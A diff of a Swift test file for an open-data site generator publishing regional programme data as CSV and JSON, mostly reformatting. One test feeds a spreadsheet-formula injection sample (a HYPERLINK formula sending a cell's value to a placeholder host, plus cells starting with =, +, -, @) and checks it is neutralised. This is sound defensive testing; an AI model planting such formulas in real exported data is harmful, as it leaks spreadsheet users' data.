@@ -1,19 +1,23 @@
 import Foundation
 import Testing
 import TinjauTestSupport
+
 @testable import TinjauKit
 
 /// Builds a site from a `tinjau.yml` and programme files of the OPD `dinas-a` (named by file
 /// name) and returns every file's bytes by path, with the build's warnings.
 func openDataSite(review: String = minimalReview, programs: [String: String], opd: String = opdIndex) throws
-    -> (files: [String: [UInt8]], warnings: [Diagnostic]) {
+    -> (files: [String: [UInt8]], warnings: [Diagnostic])
+{
     let dir = try TemporaryDirectory()
     let fs = LocalFileSystem()
     try fs.write(Array(review.utf8), to: dir.path + "/content/tinjau.yml")
     try fs.write(Array(opd.utf8), to: dir.path + "/content/opd/dinas-a/_index.md")
     for (name, text) in programs { try fs.write(Array(text.utf8), to: dir.path + "/content/opd/dinas-a/\(name).md") }
-    let (files, report) = try SiteBuilder().prepare(BuildOptions(contentDirectory: dir.path + "/content", templatesDirectory: shippedTemplates,
-                                                                  outputDirectory: dir.path + "/output"))
+    let (files, report) = try SiteBuilder().prepare(
+        BuildOptions(
+            contentDirectory: dir.path + "/content", templatesDirectory: shippedTemplates,
+            outputDirectory: dir.path + "/output"))
     return (Dictionary(uniqueKeysWithValues: files.map { ($0.path, $0.bytes) }), report.diagnostics)
 }
 
@@ -25,7 +29,10 @@ func text(_ files: [String: [UInt8]], _ path: String) throws -> String {
 /// A minimal RFC 4180 reader (quoted fields, doubled quotes, CRLF), independent of the writer,
 /// so that tests read back what a tool would.
 func readCSV(_ text: String, separator: Unicode.Scalar = ",") -> [[String]] {
-    var rows: [[String]] = [], row: [String] = [], field = "", quoted = false
+    var rows: [[String]] = []
+    var row: [String] = []
+    var field = ""
+    var quoted = false
     var scalars = text.unicodeScalars.makeIterator()
     var pending: Unicode.Scalar? = nil
     while let c = pending ?? scalars.next() {
@@ -33,22 +40,39 @@ func readCSV(_ text: String, separator: Unicode.Scalar = ",") -> [[String]] {
         if quoted {
             if c == "\"" {
                 let next = scalars.next()
-                if next == "\"" { field.unicodeScalars.append("\"") } else { quoted = false; pending = next }
+                if next == "\"" {
+                    field.unicodeScalars.append("\"")
+                } else {
+                    quoted = false
+                    pending = next
+                }
             } else {
                 field.unicodeScalars.append(c)
             }
         } else if c == "\"" {
             quoted = true
         } else if c == separator {
-            row.append(field); field = ""
+            row.append(field)
+            field = ""
         } else if c == "\r" {
             let next = scalars.next()
-            if next == "\n" { row.append(field); rows.append(row); row = []; field = "" } else { field.unicodeScalars.append(c); pending = next }
+            if next == "\n" {
+                row.append(field)
+                rows.append(row)
+                row = []
+                field = ""
+            } else {
+                field.unicodeScalars.append(c)
+                pending = next
+            }
         } else {
             field.unicodeScalars.append(c)
         }
     }
-    if !field.isEmpty || !row.isEmpty { row.append(field); rows.append(row) }
+    if !field.isEmpty || !row.isEmpty {
+        row.append(field)
+        rows.append(row)
+    }
     return rows
 }
 
@@ -97,24 +121,27 @@ struct OpenDataTests {
 
     @Test func formulasInProgrammeAndIndicatorTextAreNeutralisedAndNumbersStayNumbers() throws {
         let (files, _) = try openDataSite(programs: ["uji": Self.hostileProgram])
-        #expect(try text(files, "data/program.csv") == """
-            id,opd,opd_nama,judul,dimensi,elemen,status,jangka,tahun_mulai,tahun_selesai,anggaran_rp,realisasi_anggaran_rp,serapan_persen,sumber_dana,mitra,alasan_tunda,ilustrasi,halaman\r
-            dinas-a/uji,dinas-a,Dinas A,"'=HYPERLINK(""http://contoh.invalid/?x=""&A1,""Lihat rincian"")",governance,,berjalan,,,,1000000,250000,25,'@APBD,,,tidak,opd/dinas-a/uji/index.html\r
+        #expect(
+            try text(files, "data/program.csv") == """
+                id,opd,opd_nama,judul,dimensi,elemen,status,jangka,tahun_mulai,tahun_selesai,anggaran_rp,realisasi_anggaran_rp,serapan_persen,sumber_dana,mitra,alasan_tunda,ilustrasi,halaman\r
+                dinas-a/uji,dinas-a,Dinas A,"'=HYPERLINK(""http://contoh.invalid/?x=""&A1,""Lihat rincian"")",governance,,berjalan,,,,1000000,250000,25,'@APBD,,,tidak,opd/dinas-a/uji/index.html\r
 
-            """)
-        #expect(try text(files, "data/indikator.csv") == """
-            program,nomor,nama,satuan,baseline,target,realisasi,arah,bobot,capaian_persen,capaian_pecahan,capaian_persen_publikasi\r
-            dinas-a/uji,1,'-Waktu tanggap aduan,jam,-2.5,24,30,turun,1,80,4/5,80\r
-            dinas-a/uji,2,'=1+1,'+persen,,80,72.5,naik,1,90.625,29/32,90.6\r
+                """)
+        #expect(
+            try text(files, "data/indikator.csv") == """
+                program,nomor,nama,satuan,baseline,target,realisasi,arah,bobot,capaian_persen,capaian_pecahan,capaian_persen_publikasi\r
+                dinas-a/uji,1,'-Waktu tanggap aduan,jam,-2.5,24,30,turun,1,80,4/5,80\r
+                dinas-a/uji,2,'=1+1,'+persen,,80,72.5,naik,1,90.625,29/32,90.6\r
 
-            """)
+                """)
         // The spreadsheet variant: the same cells, `;`, decimal commas, no fraction column.
-        #expect(try text(files, "data/excel/indikator.csv") == """
-            \u{FEFF}program;nomor;nama;satuan;baseline;target;realisasi;arah;bobot;capaian_persen;capaian_persen_publikasi\r
-            dinas-a/uji;1;'-Waktu tanggap aduan;jam;-2,5;24;30;turun;1;80;80\r
-            dinas-a/uji;2;'=1+1;'+persen;;80;72,5;naik;1;90,625;90,6\r
+        #expect(
+            try text(files, "data/excel/indikator.csv") == """
+                \u{FEFF}program;nomor;nama;satuan;baseline;target;realisasi;arah;bobot;capaian_persen;capaian_persen_publikasi\r
+                dinas-a/uji;1;'-Waktu tanggap aduan;jam;-2,5;24;30;turun;1;80;80\r
+                dinas-a/uji;2;'=1+1;'+persen;;80;72,5;naik;1;90,625;90,6\r
 
-            """)
+                """)
         // The budget table keys sources of funds by name: neutralised there too.
         #expect(try text(files, "data/anggaran.csv").contains("\r\nsumber_dana,'@APBD,'@APBD,1000000,250000,0,25,,\r\n"))
         // JSON is not a spreadsheet: the text stays as written.
@@ -175,15 +202,19 @@ struct OpenDataTests {
             """
         let (files, _) = try openDataSite(programs: ["festival": program])
         let standard = try #require(files["data/program.csv"])
-        let row = "dinas-a/festival,dinas-a,Dinas A,Festival Kuliner Kreatif – Café & Kopi Lokal,economy,,selesai,,,,1250000000,1000000001,80,,,,tidak,opd/dinas-a/festival/index.html\r\n"
+        let row =
+            "dinas-a/festival,dinas-a,Dinas A,Festival Kuliner Kreatif – Café & Kopi Lokal,economy,,selesai,,,,1250000000,1000000001,80,,,,tidak,opd/dinas-a/festival/index.html\r\n"
         #expect(Array(standard.prefix(3)) == Array("id,".utf8))
         #expect(String(decoding: standard, as: UTF8.self).hasSuffix("\r\n" + row))
         // "–" is E2 80 93 and "é" C3 A9 in UTF-8.
-        #expect(Array("Kreatif – Café".utf8) == [0x4B, 0x72, 0x65, 0x61, 0x74, 0x69, 0x66, 0x20, 0xE2, 0x80, 0x93, 0x20, 0x43, 0x61, 0x66, 0xC3, 0xA9])
+        #expect(
+            Array("Kreatif – Café".utf8) == [0x4B, 0x72, 0x65, 0x61, 0x74, 0x69, 0x66, 0x20, 0xE2, 0x80, 0x93, 0x20, 0x43, 0x61, 0x66, 0xC3, 0xA9])
         let spreadsheet = try #require(files["data/excel/program.csv"])
         #expect(Array(spreadsheet.prefix(6)) == [0xEF, 0xBB, 0xBF] + Array("id;".utf8))
-        #expect(String(decoding: spreadsheet, as: UTF8.self).hasSuffix(
-            "\r\ndinas-a/festival;dinas-a;Dinas A;Festival Kuliner Kreatif – Café & Kopi Lokal;economy;;selesai;;;;1250000000;1000000001;80;;;;tidak;opd/dinas-a/festival/index.html\r\n"))
+        #expect(
+            String(decoding: spreadsheet, as: UTF8.self).hasSuffix(
+                "\r\ndinas-a/festival;dinas-a;Dinas A;Festival Kuliner Kreatif – Café & Kopi Lokal;economy;;selesai;;;;1250000000;1000000001;80;;;;tidak;opd/dinas-a/festival/index.html\r\n"
+            ))
         #expect(try text(files, "data/excel/indikator.csv").hasSuffix("\r\ndinas-a/festival;1;Kunjungan;;;0,5;0,25;naik;1;50;50\r\n"))
         #expect(try text(files, "data/indikator.csv").hasSuffix("\r\ndinas-a/festival,1,Kunjungan,,,0.5,0.25,naik,1,50,1/2,50\r\n"))
     }
@@ -192,7 +223,10 @@ struct OpenDataTests {
         let (files, _) = try openDataSite(programs: ["uji": programFile()])
         let page = try text(files, "data/index.html")
         #expect(page.contains(#"<td data-label="Berkas"><code>excel/*.csv</code></td>"#))
-        #expect(page.contains("<strong>Sel teks yang diawali <code>=</code>, <code>+</code>, <code>-</code>, <code>@</code>, tab atau carriage return diberi awalan <code>'</code></strong>"))
+        #expect(
+            page.contains(
+                "<strong>Sel teks yang diawali <code>=</code>, <code>+</code>, <code>-</code>, <code>@</code>, tab atau carriage return diberi awalan <code>'</code></strong>"
+            ))
         #expect(page.contains(#"<a class="inline" href="../data/excel/program.csv">excel/program.csv</a>"#))
         #expect(page.contains(#"<a href="../data/datapackage.json">datapackage.json</a>"#))
         #expect(page.contains("<h2 id=\"cara-memakai\">Cara memakai data ini</h2>"))
@@ -211,14 +245,16 @@ struct OpenDataTests {
         let base = "https://smartcity.bantulkab.go.id/Tinjauan%20Masterplan%202020/"
         #expect(try text(files, "robots.txt") == "User-agent: *\nAllow: /\nSitemap: \(base)sitemap.xml\n")
         let sitemap = try text(files, "sitemap.xml")
-        #expect(sitemap.hasPrefix("""
-            <?xml version="1.0" encoding="UTF-8"?>
-            <urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">
-              <url><loc>\(base)anggaran/</loc></url>
-              <url><loc>\(base)cetak/</loc></url>
-              <url><loc>\(base)data/</loc></url>
+        #expect(
+            sitemap.hasPrefix(
+                """
+                <?xml version="1.0" encoding="UTF-8"?>
+                <urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">
+                  <url><loc>\(base)anggaran/</loc></url>
+                  <url><loc>\(base)cetak/</loc></url>
+                  <url><loc>\(base)data/</loc></url>
 
-            """))
+                """))
         #expect(sitemap.contains("  <url><loc>\(base)</loc></url>\n"))
         #expect(sitemap.contains("  <url><loc>\(base)opd/dinas-a/uji/</loc></url>\n"))
         #expect(!sitemap.contains(" Masterplan"))
@@ -274,8 +310,9 @@ struct OpenDataTests {
         let once = SiteAddress.percentEncoded("https://contoh.go.id/Kafé Kopi/a;b=c(d)/")
         #expect(once == "https://contoh.go.id/Kaf%C3%A9%20Kopi/a;b=c(d)/")
         #expect(SiteAddress.percentEncoded(once) == once)
-        #expect(SiteAddress.absolute(base: "https://contoh.go.id/Tinjauan 2020", path: "opd/dinas-a/index.html")
-            == "https://contoh.go.id/Tinjauan%202020/opd/dinas-a/")
+        #expect(
+            SiteAddress.absolute(base: "https://contoh.go.id/Tinjauan 2020", path: "opd/dinas-a/index.html")
+                == "https://contoh.go.id/Tinjauan%202020/opd/dinas-a/")
     }
 
     // MARK: Big integers
@@ -290,7 +327,10 @@ struct OpenDataTests {
         #expect(warning.severity == .warning)
         #expect(warning.location.path.hasSuffix("/content/opd/dinas-a/b.md"))
         #expect((warning.location.line, warning.location.column) == (5, 11))
-        #expect(warning.message == "jumlah `anggaran` melewati 9.007.199.254.740.991 Rupiah (2⁵³ − 1) saat menambahkan program ini; pembaca JSON yang memakai bilangan titik-mengambang (JavaScript) membulatkan angka sebesar itu")
+        #expect(
+            warning.message
+                == "jumlah `anggaran` melewati 9.007.199.254.740.991 Rupiah (2⁵³ − 1) saat menambahkan program ini; pembaca JSON yang memakai bilangan titik-mengambang (JavaScript) membulatkan angka sebesar itu"
+        )
         #expect(warnings.filter { $0.code == "money.json-precision" }.count == 1)
         // The JSON text and the CSV keep every digit.
         let json = try text(files, "data/tinjauan.json")
@@ -322,8 +362,10 @@ struct OpenDataTests {
             guard let schema = resource["schema"] as? [String: Any] else { continue }
             let fields = (schema["fields"] as! [[String: Any]]).map { $0["name"] as! String }
             let spreadsheet = path.hasPrefix("data/excel/")
-            let header = readCSV(String(decoding: spreadsheet ? Array(bytes.dropFirst(3)) : bytes, as: UTF8.self),
-                                 separator: spreadsheet ? ";" : ",").first
+            let header = readCSV(
+                String(decoding: spreadsheet ? Array(bytes.dropFirst(3)) : bytes, as: UTF8.self),
+                separator: spreadsheet ? ";" : ","
+            ).first
             #expect(header == fields, "\(path)")
             for key in schema["primaryKey"] as! [String] { #expect(fields.contains(key), "\(path) \(key)") }
             for foreign in schema["foreignKeys"] as? [[String: Any]] ?? [] {
@@ -339,8 +381,10 @@ struct OpenDataTests {
         #expect(contributors.map { $0["role"] ?? "" } == ["author", "publisher"])
     }
 
-    @Test(arguments: [("CC BY 4.0", "CC-BY-4.0"), ("cc-by-sa 4.0", "CC-BY-SA-4.0"), ("CC0", "CC0-1.0"), ("ODbL", "ODbL-1.0"),
-                      ("Lisensi Pemda \"Bantul\" 2020", "lisensi-pemda-bantul-2020"), ("ライセンス", "lainnya")])
+    @Test(arguments: [
+        ("CC BY 4.0", "CC-BY-4.0"), ("cc-by-sa 4.0", "CC-BY-SA-4.0"), ("CC0", "CC0-1.0"), ("ODbL", "ODbL-1.0"),
+        ("Lisensi Pemda \"Bantul\" 2020", "lisensi-pemda-bantul-2020"), ("ライセンス", "lainnya"),
+    ])
     func licencesAreNamed(text: String, name: String) {
         #expect(DataPackage.license(text).name == name)
         #expect(DataPackage.license(text).title == text)
